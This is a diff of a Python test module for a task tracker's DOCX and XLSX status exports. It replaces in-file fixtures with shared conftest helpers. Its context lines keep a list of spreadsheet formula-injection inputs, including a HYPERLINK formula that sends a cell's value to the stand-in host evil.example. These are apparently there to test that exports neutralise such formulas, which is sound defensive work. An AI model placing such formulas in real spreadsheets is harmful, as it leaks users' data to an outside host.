@@ -12,7 +12,7 @@ from docx import Document
 from openpyxl import load_workbook
 from sqlalchemy import select
 
-from tests.conftest import NOW, TODAY, cheap_hashing, empty_tables, login
+from tests.conftest import NOW, TODAY, cheap_hashing, empty_tables, keep_module_data, login
 from tests.status.test_numbers import recount
 from tracker.assignments import operations as ops
 from tracker.assignments.models import Assignment
@@ -26,7 +26,7 @@ from tracker.status.exports import HEADER_ROW, XLSX_MIMETYPE, filename
 from tracker.status.filters import StatusFilters
 from tracker.tasks.models import Task
 
-pytestmark = pytest.mark.usefixtures("fast_passwords")
+pytestmark = pytest.mark.usefixtures("fast_passwords", "status_today")
 DEMO_PASSWORD = "demo123456"
 STATE_ORDER = ("done_on_time", "done_late", "in_progress", "not_started", "overdue")
 INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+SUM(1,2)",
@@ -47,19 +47,7 @@ def demo(app):
         empty_tables()
 
 
-@pytest.fixture(autouse=True)
-def _clean_database(app, demo):
-    """Replaces the suite's per-test emptying: the demo stays for the whole module."""
-    with app.app_context():
-        yield
-        db.session.rollback()
-        db.session.remove()
-
-
-@pytest.fixture(autouse=True)
-def _fixed_day(monkeypatch):
-    """The views read "today" once per request; pin it to the day the tests reason about."""
-    monkeypatch.setattr("tracker.status.views.vn_today", lambda: TODAY)
+_clean_database = keep_module_data("demo")  # the demo stays for the whole module
 
 
 def body(name: str) -> Body:
